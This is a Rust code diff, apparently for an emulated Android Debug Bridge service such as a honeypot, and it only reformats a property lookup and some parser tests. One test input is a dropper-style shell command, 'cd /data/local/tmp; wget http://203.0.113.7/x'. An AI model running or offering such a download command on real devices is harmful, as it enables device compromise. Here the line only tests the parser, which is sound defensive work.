@@ -202,7 +202,11 @@ fn getprop(d: &Device, key: Option<&str>) -> String {
         ("service.adb.tcp.port", "5555"),
     ];
     match key {
-        Some(k) => props.iter().find(|(n, _)| *n == k.trim_matches(['"', '\''])).map(|(_, v)| format!("{v}\n")).unwrap_or_else(|| "\n".into()),
+        Some(k) => props
+            .iter()
+            .find(|(n, _)| *n == k.trim_matches(['"', '\'']))
+            .map(|(_, v)| format!("{v}\n"))
+            .unwrap_or_else(|| "\n".into()),
         None => props.iter().map(|(n, v)| format!("[{n}]: [{v}]\n")).collect(),
     }
 }
@@ -218,7 +222,10 @@ mod tests {
             Service::Shell { v2: true, pty: false, command: "cd /data/local/tmp; wget http://203.0.113.7/x".into() }
         );
         assert_eq!(parse_service("shell:"), Service::Shell { v2: false, pty: true, command: String::new() });
-        assert_eq!(parse_service("shell,v2,TERM=xterm,pty:"), Service::Shell { v2: true, pty: true, command: String::new() });
+        assert_eq!(
+            parse_service("shell,v2,TERM=xterm,pty:"),
+            Service::Shell { v2: true, pty: true, command: String::new() }
+        );
         assert_eq!(parse_service("exec:cat /x"), Service::Shell { v2: false, pty: false, command: "cat /x".into() });
         assert_eq!(parse_service("sync:"), Service::Sync);
         assert_eq!(parse_service("tcp:8080"), Service::Refused);
